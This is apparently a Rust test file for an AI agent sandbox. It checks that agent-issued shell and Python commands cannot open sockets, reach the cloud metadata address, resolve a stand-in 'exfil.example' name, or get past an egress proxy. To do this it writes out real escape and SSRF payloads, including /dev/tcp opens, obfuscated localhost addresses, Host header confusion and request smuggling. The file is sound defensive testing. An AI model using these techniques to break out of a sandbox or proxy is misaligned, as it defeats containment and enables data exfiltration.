//! Ways out: sockets of every family, names, the proxy.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::json;

use super::super::world::named;
use super::{attacked, quoted, ran};

/// Without a network there is no way out, whatever is tried; what was tried is in the log.
#[tokio::test]
async fn nothing_leaves_the_hands_without_a_network() {
    let tries = "for how in 'exec 3<>/dev/tcp/127.0.0.1/22' 'exec 3<>/dev/tcp/10.0.0.1/80' 'exec 3<>/dev/udp/1.1.1.1/53' \
                 'exec 3<>/dev/tcp/::1/22'; do (eval \"$how\" && echo out) 2>/dev/null || echo in; done; \
                 python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)' 2>&1 | tail -1; \
                 git ls-remote https://example.com/x.git 2>&1 | tail -1; echo one >> ran.log";
    let (place, task) = attacked(&[], &[("Bash", json!({"command": format!("bash -c {}", quoted(tries))}))]).await;
    let asked = place.until(&task, "judged", |e| named(e, "approval_requested") || named(e, "agent_tool_call")).await;
    if named(&asked, "approval_requested") {
        // `eval` of what is not known asks; the walls are what this test is about.
        let yes = place.abca(&["approve", &task.id().to_string()]).await;
        assert!(yes.status.success(), "{yes:?}");
    }
    place.delivered(&task).await;
    let seen = place.model.asks().last().unwrap().text();
    assert!(!seen.contains("out\\n") && seen.matches("in\\n").count() >= 4, "{seen}");
}

/// A server of the machine that nobody may reach; counts who did.
fn forbidden() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let count = Arc::new(AtomicUsize::new(0));
    let counted = count.clone();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            counted.fetch_add(1, Ordering::SeqCst);
            let _ = stream.read(&mut [0; 4096]);
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nsecret");
        }
    });
    (port, count)
}

/// Every family of sockets, without a network: none leads out, and names are not resolved.
#[tokio::test]
async fn no_kind_of_socket_leads_out() {
    let (port, reached) = forbidden();
    let script = r#"python3 - <<'END'
import socket, struct
def tries(name, act):
    try:
        act()
        print(name, "OUT")
    except OSError as error:
        print(name, "held", error.errno)
def tcp(family, to):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(to)
def raw(family, kind, protocol):
    socket.socket(family, kind, protocol).close()
tries("tcp4", lambda: tcp(socket.AF_INET, ("127.0.0.1", PORT)))
tries("tcp6", lambda: tcp(socket.AF_INET6, ("::1", PORT)))
tries("mapped", lambda: tcp(socket.AF_INET6, ("::ffff:127.0.0.1", PORT)))
tries("world", lambda: tcp(socket.AF_INET, ("192.0.2.1", 80)))
tries("metadata", lambda: tcp(socket.AF_INET, ("169.254.169.254", 80)))
def datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"\0" * 30, ("192.0.2.53", 53))
tries("dns", datagram)
tries("name", lambda: socket.getaddrinfo("c2VjcmV0.exfil.example", 80))
tries("raw", lambda: raw(socket.AF_INET, socket.SOCK_RAW, 1))
tries("packet", lambda: raw(socket.AF_PACKET, socket.SOCK_RAW, 3))
tries("vsock", lambda: tcp(40, (2, 2049)))
tries("abstract", lambda: tcp(socket.AF_UNIX, "\0/tmp/.X11-unix/X0"))
tries("bluetooth", lambda: raw(31, socket.SOCK_RAW, 1))
END
"#;
    let (_place, _task, seen) = ran(&script.replace("PORT", &port.to_string()), &[]).await;
    assert_eq!(seen.matches(" held ").count(), 12, "{seen}");
    assert!(!seen.contains("OUT"), "{seen}");
    assert_eq!(reached.load(Ordering::SeqCst), 0);
}

/// With the proxy as the only way out, going around it does not work, nor does talking it into what is not listed.
#[tokio::test]
async fn the_proxy_is_neither_passed_by_nor_talked_over() {
    let (port, reached) = forbidden();
    let script = r#"python3 - <<'END'
import socket
def direct(family, to):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect(to)
        print("OUT", to)
    except OSError as error:
        print("held", to, error.errno)
for family, to in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT)), (socket.AF_INET, ("192.0.2.1", 443))):
    direct(family, to)
def asks(lines):
    with socket.create_connection(("127.0.0.1", 3128), 5) as s:
        s.settimeout(5)
        s.sendall(lines.replace("\n", "\r\n").encode("latin-1"))
        got = b""
        try:
            while b"\r\n" not in got:
                more = s.recv(4096)
                if not more:
                    break
                got += more
        except OSError:
            pass
        print("answer", got.split(b"\r\n")[0].decode("latin-1")[:120] or "closed")
me = "127.0.0.1:PORT"
for url in (me, "[::1]:PORT", "[::ffff:127.0.0.1]:PORT", "2130706433:PORT", "0x7f.1:PORT", "localhost:PORT", "127.0.0.1.nip.io:PORT",
            "169.254.169.254", "metadata.google.internal", "c2VjcmV0.exfil.example"):
    asks(f"GET http://{url}/ HTTP/1.1\nHost: {url}\n\n")
    host = url if ":" in url.split("]")[-1] else url + ":443"
    asks(f"CONNECT {host} HTTP/1.1\nHost: {host}\n\n")
# One host in the address, another in the header; two requests where one is expected; a name with a line in it.
asks(f"GET http://listed.example/ HTTP/1.1\nHost: {me}\n\n")
asks(f"GET http://listed.example@{me}/ HTTP/1.1\nHost: listed.example\n\n")
asks(f"CONNECT {me}%00.listed.example:443 HTTP/1.1\nHost: listed.example\n\n")
asks(f"GET http://listed.example/ HTTP/1.1\nHost: listed.example\nContent-Length: 0\nTransfer-Encoding: chunked\n\n0\n\nGET http://{me}/ HTTP/1.1\nHost: {me}\n\n")
END
"#;
    let worker = ["--network", "proxy", "--allow-host", "listed.example"];
    let (place, task, seen) = ran(&script.replace("PORT", &port.to_string()), &worker).await;
    assert_eq!(reached.load(Ordering::SeqCst), 0, "{seen}");
    assert_eq!(seen.matches("held ").count(), 3, "{seen}");
    assert!(!seen.contains("OUT") && !seen.contains("answer HTTP/1.1 200"), "{seen}");
    assert_eq!(seen.matches("answer ").count(), 24, "{seen}");
    let events = place.events(&task).await;
    let denied: Vec<String> = events
        .iter()
        .filter(|e| named(e, "policy_decision") && e.metadata.get("stage") == Some(&json!("egress")))
        .map(|e| format!("{} {}", e.metadata["outcome"], e.metadata["subject"]).replace('"', ""))
        .collect();
    for subject in
        [format!("127.0.0.1:{port}"), "169.254.169.254:80".to_owned(), "c2vjcmv0.exfil.example:443".to_owned()]
    {
        assert!(denied.contains(&format!("denied {subject}")), "{subject}: {denied:#?}");
    }
    assert!(denied.iter().all(|d| d.starts_with("denied ") || d.contains(" listed.example")), "{denied:#?}");
}
